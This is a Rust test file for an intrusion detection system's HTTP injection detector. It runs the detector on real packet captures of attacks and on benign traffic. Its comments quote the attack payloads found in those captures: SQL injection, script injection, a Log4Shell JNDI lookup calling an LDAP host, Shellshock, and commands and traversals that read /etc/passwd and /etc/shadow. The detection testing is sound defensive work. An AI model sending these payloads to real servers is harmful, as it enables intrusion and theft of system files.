//! Injections found in HTTP requests (`Exchange::fwd_injection`) on real captures: the SQL
//! injection of nDPI's DVWA request and of the CIC-IDS2017 excerpt is found, so are the command
//! and code injections and path traversals of a Nikto scan and a Log4Shell exploit; no request of
//! the real benign HTTP captures or of the nDPI corpus's ordinary web traffic is called one. Skips
//! (loudly; fails under MLIDS_REQUIRE_ALL=1) without the shared data.

use mlids_flow::{FlowRecord, Injection, MeterConfig, Mode};
use mlids_test_support::capture::run_bytes_partial;
use mlids_test_support::{files_under, shared_data};
use std::path::Path;

/// The flows of a capture; a damaged one keeps the flows before the damage, all this test needs.
fn flows(path: &Path) -> Vec<FlowRecord> {
    let bytes = std::fs::read(path).unwrap();
    run_bytes_partial(MeterConfig::new(Mode::Corrected), bytes).0
}

fn injections(path: &Path) -> Vec<Injection> {
    flows(path)
        .iter()
        .filter_map(|f| f.exchange.fwd_injection)
        .collect()
}

#[test]
fn sql_injection_and_xss_requests_are_found() {
    let Some(data) = shared_data() else { return };
    // One DVWA request: GET /dvwa/vulnerabilities/sqli/?id=...UNION SELECT...
    let one = injections(&data.join("pcap/bench/ndpi-default/sql_injection.pcap"));
    assert_eq!(one, [Injection::Sql]);
    // The CIC-IDS2017 excerpt: its injection requests are SQL, none is script.
    let cic = injections(&data.join("pcap/attack/web-sqli/ndpi_WebattackSQLinj.pcap"));
    assert!(!cic.is_empty());
    assert!(cic.iter().all(|i| *i == Injection::Sql), "{cic:?}");
    // nDPI's DVWA DOM XSS request: ?default=English<script>alert(1)</script>.
    let xss = injections(&data.join("pcap/bench/ndpi-default/xss.pcap"));
    assert_eq!(xss, [Injection::Script]);
}

#[test]
fn server_side_exploits_are_found() {
    let Some(data) = shared_data() else { return };
    // A Log4Shell exploit: `uname=${jndi:ldap://172.16.238.11:1389/a}` in a login form (its
    // User-Agent, `jndi:ldap://…` without the `${`, is no lookup).
    let log4j = injections(&data.join("pcap/bench/ndpi-default/log4j-webapp-exploit.pcap"));
    assert_eq!(log4j, [Injection::Code]);
    // nDPI's WebattackRCE is a Nikto scan: 797 requests (one flow each, the capture holds only the
    // client's segments), most of them probes of script paths with nothing in their text. The
    // flagged requests were read one by one (tcpdump -A) when this was written: 143 command
    // injections (Shellshock function definitions in `User-Agent` and `Referer`, `cmd.exe`
    // reached by `..%255c` and `..%c0%af` traversal, `;id`, `|dir`, `?cmd=cat /etc/passwd`), 60
    // code injections (`phpinfo()`, `passthru($HTTP_GET_VARS[rush])`, `system('cat
    // /etc/passwd')`, and three Struts OGNL probes in `Content-Type`, which the first version of
    // the checks passed), 9 traversals (`/../../etc/shadow`, `ONLY=../../../../../boot.ini`). Of
    // the 587 requests left by the first version, 11 had anything but a plain path; two of them
    // are attempts these checks pass (`comma=\".system\('id'\)\.\"`, whose backslashes break
    // the call, and `cli=aa aa'cat /etc/hosts`, a command after a quote).
    let rce = injections(&data.join("pcap/attack/web-rce/ndpi_WebattackRCE.pcap"));
    let count = |kind| rce.iter().filter(|i| **i == kind).count();
    assert_eq!(
        (
            count(Injection::Command),
            count(Injection::Code),
            count(Injection::Traversal)
        ),
        (143, 60, 9),
        "{rce:?}"
    );
    assert_eq!(rce.len(), 212, "only these three kinds: {rce:?}");
}

#[test]
fn ordinary_web_requests_are_no_injection() {
    let Some(data) = shared_data() else { return };
    let is_capture = |p: &Path| {
        ["pcap", "pcapng", "cap"]
            .iter()
            .any(|e| p.extension().is_some_and(|x| x == *e))
    };
    let mut files = files_under(&data.join("pcap/benign"));
    files.extend(files_under(&data.join("pcap/bench/ndpi-default")));
    files.retain(|p| is_capture(p));
    // The nDPI corpus's attack captures without a copy in pcap/attack (NDPI_ATTACKS in
    // scripts/eval_captures.py; this test found the third).
    let attacks = [
        "sql_injection.pcap",
        "log4j-webapp-exploit.pcap",
        "xss.pcap",
    ];
    let mut requests = 0;
    for path in files {
        let name = path.file_name().unwrap().to_string_lossy().to_string();
        if attacks.contains(&name.as_str()) {
            continue;
        }
        let fl = flows(&path);
        requests += fl
            .iter()
            .filter(|f| f.exchange.fwd_opening == mlids_flow::Opening::HttpRequest)
            .count();
        let found: Vec<_> = fl
            .iter()
            .filter(|f| f.exchange.fwd_injection.is_some())
            .map(|f| (f.src, f.dst, f.dst_port, f.exchange.fwd_injection))
            .collect();
        assert!(found.is_empty(), "{name}: {found:?}");
    }
    // 332 when written: every HTTP/1.x request flow of the real benign captures.
    assert!(requests >= 300, "only {requests} HTTP flows read");
}
